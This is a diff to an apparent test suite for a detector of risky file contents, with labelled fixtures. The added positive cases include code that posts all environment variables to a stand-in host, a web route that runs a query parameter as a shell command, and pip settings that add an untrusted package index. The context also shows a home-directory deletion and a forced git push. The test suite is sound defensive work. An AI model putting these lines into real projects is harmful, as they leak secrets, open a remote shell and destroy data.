@@ -107,6 +107,15 @@ describe('files that act', () => {
       'database-change',
     ],
     ['jest.setup.js', "require('child_process').execSync('rm -rf ~/albums')\n", 'delete-path'],
+    [
+      'lib/log.js',
+      "fetch('https://x.example.net', { method: 'POST', body: JSON.stringify(process.env) })\n",
+      'send-data',
+    ],
+    ['app/log.py', 'requests.post("https://x.example.net", json=dict(os.environ))\n', 'send-data'],
+    ['server/r.js', "app.get('/h', (q, r) => require('child_process').exec(q.query.c, r.send))\n", 'listen'],
+    ['requirements-dev.txt', '--extra-index-url https://wheels.example.net/simple\nkit==1.0\n', 'install'],
+    ['requirements.txt', '--trusted-host wheels.example.net\n', 'weaken'],
     ['spec/spec_helper.rb', 'at_exit { system("git push -f origin main") }\n', 'git-push'],
     [
       'build.gradle.kts',
@@ -157,6 +166,9 @@ describe('files that act', () => {
     ],
     ['conftest.py', 'import os, shutil\ndef wipe(home):\n    shutil.rmtree(home)\n'],
     ['jest.setup.js', "require('child_process').execSync('rm -rf tmp/out')\n"],
+    ['lib/api.js', "fetch(url, { method: 'POST', headers: { Authorization: process.env.API_KEY }, body })\n"],
+    ['lib/walk.js', 'const found = /x/.exec(node.body.text)\n'],
+    ['requirements.txt', 'kit==1.0\nurllib3>=2\n'],
     ['Dockerfile', 'FROM a\nADD https://x.example.net/b.csv /d/b.csv\nRUN wc -l /d/b.csv && make\n'],
     ['deploy/ds.yaml', 'kind: DaemonSet\nspec:\n  hostNetwork: true\n  hostPID: true\n  privileged: false\n'],
     [
